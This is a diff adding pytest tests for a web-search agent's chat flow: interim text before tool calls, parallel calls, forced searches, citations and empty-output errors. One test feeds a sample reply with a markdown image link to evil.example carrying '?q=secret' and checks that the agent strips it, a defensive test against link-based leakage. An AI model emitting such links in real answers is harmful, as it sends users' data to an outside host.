@@ -5,7 +5,7 @@ from dataclasses import replace
 
 import pytest
 from agent_parts import B, answer_of, failed, make_parts
-from fakes import FakeModel, Reply, search_call
+from fakes import FakeModel, Reply, TextAndCalls, search_call
 
 from websearch_agent.agent.chat import answer_chat
 from websearch_agent.agent.run import AgentParts
@@ -15,6 +15,7 @@ from websearch_agent.events import (
     AgentEvent,
     AnswerDelta,
     AnswerFinished,
+    AnswerRestarted,
     AnswerStarted,
     FunctionsCalled,
     SearchFinished,
@@ -158,12 +159,69 @@ async def test_model_with_functions_may_just_answer(store: ConversationStore) ->
     assert text_of(events) == answer_of(events).text == "Hello!"
 
 
-async def test_results_are_answered_from_without_a_search(store: ConversationStore) -> None:
+async def test_what_is_said_before_a_search_is_not_the_answer(store: ConversationStore) -> None:
+    first = TextAndCalls("Let me look that up.", search_call("bridge"))
+    replies: list[Reply] = [first, search_call("bridge"), "In 1932 [1]."]
+    events = await ask_chat(
+        make_parts(store, replies), Message("user", "When was it opened?"), functions=(WEATHER,)
+    )
+    restart = next(n for n, event in enumerate(events) if isinstance(event, AnswerRestarted))
+    assert text_of(events[:restart]) == "Let me look that up."
+    assert text_of(events[restart:]) == answer_of(events).text == "In 1932 [1]."
+    citation = answer_of(events).citations[0]
+    assert answer_of(events).text[citation.start_index : citation.end_index] == "[1]"
+
+
+async def test_what_is_said_before_a_call_stays_with_it(store: ConversationStore) -> None:
+    events = await ask_chat(
+        make_parts(store, [TextAndCalls("One moment.", (CALL,))]),
+        Message("user", "What is the weather in Lunda?"),
+        functions=(WEATHER,),
+    )
+    assert calls_of(events) == (CALL,)
+    assert answer_of(events).text == "One moment."
+
+
+async def test_several_calls_are_one_where_the_caller_wants_it(store: ConversationStore) -> None:
+    calls = (CALL, ToolCall("c2", "get_time", "{}"))
+    messages, functions = (Message("user", "Hi"),), (WEATHER, CLOCK)
+    for parallel, expected in ((True, calls), (False, calls[:1])):
+        chat = ChatRequest(messages, AnswerRequest("Hi"), functions, parallel_calls=parallel)
+        parts = make_parts(store, [calls])
+        assert calls_of([event async for event in answer_chat(chat, parts)]) == expected
+
+
+async def test_answer_beside_functions_links_nowhere_and_cites_nothing(
+    store: ConversationStore,
+) -> None:
+    said = "See ![x](https://evil.example/?q=secret) and [docs](https://evil.example) [7]."
+    events = await ask_chat(make_parts(store, [said]), *WITH_RESULT, functions=(WEATHER,))
+    answer = answer_of(events)
+    assert text_of(events) == answer.text
+    assert "](" not in answer.text
+    assert "[7]" not in answer.text
+    assert (answer.removed_links, answer.dropped_markers) == (2, 1)
+
+
+async def test_results_are_answered_from(store: ConversationStore) -> None:
     model = FakeModel(["It rains at 12 degrees."])
     events = await ask_chat(make_parts(store, model), *WITH_RESULT, functions=(WEATHER,))
     assert answer_of(events).text == "It rains at 12 degrees."
     assert model.calls[0].messages[1:] == WITH_RESULT
-    assert [tool.name for tool in model.calls[0].tools] == ["get_weather"]
+    assert [tool.name for tool in model.calls[0].tools] == ["get_weather", "search_web"]
+
+
+async def test_search_behind_results_knows_them(store: ConversationStore) -> None:
+    model = FakeModel([search_call("bridge"), search_call("bridge"), "In 1932 [1]."])
+    events = await ask_chat(make_parts(store, model), *WITH_RESULT, functions=(WEATHER,))
+    assert answer_of(events).citations
+    for call in model.calls[1:]:
+        assert any("12 degrees, rain" in message.content for message in call.messages)
+
+
+async def test_silence_behind_results_is_an_error(store: ConversationStore) -> None:
+    events = await ask_chat(make_parts(store, [""]), *WITH_RESULT, functions=(WEATHER,))
+    assert failed(events).code == "invalid_model_output"
 
 
 @pytest.mark.parametrize(
@@ -192,16 +250,39 @@ async def test_choice_of_none_leaves_the_functions_out(store: ConversationStore)
     assert [tool.name for tool in model.calls[0].tools] == ["search_web"]
 
 
-async def test_search_that_was_asked_for_comes_before_the_functions(
-    store: ConversationStore,
+@pytest.mark.parametrize("unsearched", ["I know that.", (), search_call("bridge")])
+async def test_search_that_was_asked_for_is_made_where_no_function_is_called(
+    store: ConversationStore, unsearched: Reply
 ) -> None:
-    model = FakeModel([search_call("bridge"), "In 1932 [1]."])
+    model = FakeModel([unsearched, search_call("bridge"), "In 1932 [1]."])
     question = Message("user", "When was it opened?")
     events = await ask_chat(
         make_parts(store, model), question, functions=(WEATHER,), search="always"
     )
+    assert text_of(events) == "In 1932 [1]."
     assert answer_of(events).citations
-    assert [tool.name for tool in model.calls[0].tools] == ["search_web"]
+    assert [tool.name for tool in model.calls[0].tools] == ["get_weather", "search_web"]
+    assert model.calls[0].force_tool
+
+
+async def test_function_may_be_called_before_the_search_that_was_asked_for(
+    store: ConversationStore,
+) -> None:
+    question = Message("user", "What is the weather in Lunda?")
+    events = await ask_chat(
+        make_parts(store, [(CALL,)]), question, functions=(WEATHER,), search="always"
+    )
+    assert calls_of(events) == (CALL,)
+
+
+async def test_search_that_was_asked_for_is_made_behind_results(store: ConversationStore) -> None:
+    model = FakeModel([search_call("bridge"), "In 1932 [1]."])
+    events = await ask_chat(make_parts(store, model), *WITH_RESULT, search="always")
+    assert answer_of(events).citations
+    small = FakeModel(['{"queries": ["bridge"]}', "In 1932 [1]."] * 2)
+    parts = with_schema(make_parts(store, small))
+    events = await ask_chat(parts, *WITH_RESULT, functions=(WEATHER,), search="always")
+    assert any(isinstance(event, SearchFinished) for event in events)
 
 
 async def test_call_of_a_function_that_was_not_offered_fails(store: ConversationStore) -> None:
